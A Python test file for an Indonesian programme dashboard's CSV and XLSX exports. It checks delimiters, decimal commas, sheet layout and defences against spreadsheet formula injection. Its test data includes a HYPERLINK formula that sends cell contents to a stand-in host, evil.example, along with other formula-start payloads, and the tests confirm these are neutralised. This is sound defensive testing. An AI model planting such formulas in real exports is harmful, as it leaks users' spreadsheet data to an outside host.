"""Exports for the programme office: CSV parsed back, XLSX opened with openpyxl."""
import csv
import io
from datetime import date

from openpyxl import load_workbook

from kmapp.extensions import db
from kmapp.models import Agency, Community, Meeting

from .fixtures_programme import access, add_agency, meeting_with_asset, override, published_asset, reader


def _programme(app, world):
    """Agency A meets Triwulan III with an accompanied meeting; a third agency has no headcount."""
    with app.app_context():
        cop_a = db.session.get(Community, world.cop_a)
        meeting_with_asset(cop_a, date(2025, 7, 10), accompanied=True)
        override(2025, 4, world.agency_a, meetings=2, assets=2)
        keen = reader("rajin", db.session.get(Agency, world.agency_a))
        asset = published_asset(cop_a, db.session.get(Meeting, world.meeting_a), date(2025, 8, 20))
        for day in (date(2025, 8, 21), date(2025, 8, 22)):
            access(asset, keen, day)
        add_agency("KOSONG", headcount=0)
        db.session.commit()


def test_csv_export_has_the_matrix_and_the_per_agency_figures(app, world, client, login_as):
    _programme(app, world)
    login_as("admin")
    response = client.get("/programme/export.csv?year=2025")
    assert response.mimetype == "text/csv"
    assert 'filename="dasbor-program-2025.csv"' in response.headers["Content-Disposition"]
    text = response.data.decode("utf-8")
    assert text.startswith("\ufeff")  # Excel needs the BOM to read UTF-8
    rows = list(csv.reader(io.StringIO(text[1:]), delimiter=";"))  # Excel id-ID (issue 12.9)
    header, body = rows[0], {row[0]: row for row in rows[1:]}
    assert len(body) == 3 and header[:4] == ["Kode", "Perangkat daerah", "Jenis", "Jumlah pegawai"]
    dinkes = dict(zip(header, body["DINKES"]))
    assert dinkes["TW III status"] == "Tercapai"
    assert (dinkes["TW III pertemuan"], dinkes["TW III didampingi"], dinkes["TW III aset"]) == ("2", "1", "2")
    assert dinkes["Pengguna aset (2025)"] == "1" and dinkes["Utilisasi (2025)"] == "0,0100"  # decimal comma
    assert dict(zip(header, body["KOSONG"]))["Utilisasi (2025)"] == ""


def test_xlsx_export_has_numbers_a_frozen_header_widths_and_percentages(app, world, client, login_as):
    _programme(app, world)
    login_as("facilitator")
    response = client.get("/programme/export.xlsx?year=2025&quarter=3")
    assert response.mimetype.endswith("spreadsheetml.sheet")
    assert 'filename="dasbor-program-2025-tw3.xlsx"' in response.headers["Content-Disposition"]
    book = load_workbook(io.BytesIO(response.data))
    assert book.sheetnames == ["Matriks", "Ringkasan triwulan", "Tahap aset"]
    sheet = book["Matriks"]
    assert sheet.freeze_panes == "C2"
    assert sheet.column_dimensions["B"].width == 44
    header = [cell.value for cell in sheet[1]]
    rows = {row[0]: dict(zip(header, row)) for row in sheet.iter_rows(min_row=2, values_only=True)}
    dinkes = rows["DINKES"]
    assert dinkes["Jumlah pegawai"] == 100 and isinstance(dinkes["TW III pertemuan"], int)
    assert dinkes["TW III pertemuan"] == 2 and dinkes["TW III status"] == "Tercapai"
    assert dinkes["TW IV status"] == "Tidak tercapai"  # the override asks 2 meetings and 2 assets
    assert dinkes["Utilisasi (Triwulan III 2025)"] == 0.01
    utilisation_column = header.index("Utilisasi (Triwulan III 2025)") + 1
    assert sheet.cell(row=2, column=utilisation_column).number_format == "0.0%"
    assert rows["KOSONG"]["Utilisasi (Triwulan III 2025)"] is None
    totals = book["Ringkasan triwulan"]
    q3 = [cell.value for cell in totals[4]]
    assert q3[:6] == ["Triwulan III 2025", 1, 3, 2, 3, 1] and totals.freeze_panes == "A2"
    assert abs(q3[6] - 1 / 3) < 1e-9 and totals.cell(row=4, column=7).number_format == "0.0%"


HOSTILE = {"code": "=1+1", "name": '=HYPERLINK("http://evil.example/?"&A1,"klik")', "kind": "@SUM(A1)"}


def _hostile_programme(app, world):
    with app.app_context():
        agency, _community = add_agency("X", headcount=5)
        agency.code, agency.name, agency.kind = HOSTILE["code"], HOSTILE["name"], HOSTILE["kind"]
        db.session.get(Agency, world.agency_b).name = "-2+3"
        db.session.get(Agency, world.agency_a).name = "\tTab\rCR"
        db.session.commit()


def test_spreadsheet_cell_guards_formula_starts_and_leaves_numbers():
    from kmapp.programme.exports import spreadsheet_cell
    for text in ("=1+1", "+1", "-1+1", "@SUM(A1)", "\tx", "\rx", "-", "=", "-abc"):
        assert spreadsheet_cell(text) == "'" + text
    for value in (-5, -0.25, 0, 12, "-5", "-0.2500", "0.0100", "Dinas Kesehatan", "", None, "a=b"):
        assert spreadsheet_cell(value) == value


def test_hostile_agency_names_are_text_in_the_csv_export(app, world, client, login_as):
    _hostile_programme(app, world)
    login_as("admin")
    text = client.get("/programme/export.csv?year=2025").data.decode("utf-8")[1:]
    cells = [cell for row in csv.reader(io.StringIO(text), delimiter=";") for cell in row]
    assert "'=1+1" in cells and "'" + HOSTILE["name"] in cells and "'-2+3" in cells and "'\tTab\rCR" in cells
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)
    assert "5" in cells  # numbers stay numbers


def test_hostile_agency_names_are_text_in_the_xlsx_export(app, world, client, login_as):
    _hostile_programme(app, world)
    login_as("admin")
    book = load_workbook(io.BytesIO(client.get("/programme/export.xlsx?year=2025").data))
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert not any(cell.data_type == "f" for cell in cells)  # openpyxl writes "=..." text as a formula
    texts = [cell.value for cell in cells if isinstance(cell.value, str)]
    assert "'=1+1" in texts and "'" + HOSTILE["name"] in texts and "'-2+3" in texts
    assert not any(text.startswith(("=", "+", "-", "@", "\t", "\r")) for text in texts)
    assert 5 in [cell.value for cell in cells]  # the headcount is still a number


def test_csv_is_for_excel_in_indonesian_and_the_link_says_so(app, world, client, login_as):
    """Issue 12.9: Excel with Indonesian regional settings splits on ";" and reads "0,5" as a number."""
    _programme(app, world)
    login_as("admin")
    raw = client.get("/programme/export.csv?year=2025").data
    assert raw.startswith(b"\xef\xbb\xbf")  # UTF-8 byte-order mark
    lines = raw.decode("utf-8-sig").splitlines()
    assert lines[0].startswith("Kode;Perangkat daerah;Jenis;Jumlah pegawai;TW I status;")
    dinkes = next(line for line in lines if line.startswith("DINKES;"))
    assert dinkes.endswith(";1;0,0100") and "," not in dinkes.replace("0,0100", "")
    link = client.get("/programme/?year=2025").get_data(as_text=True)
    assert "Unduh CSV (Excel berbahasa Indonesia: pemisah titik koma, desimal koma)" in link
    assert "Unduh Excel (XLSX)" in link  # still the main export, first
    assert link.index("Unduh Excel (XLSX)") < link.index("Unduh CSV")
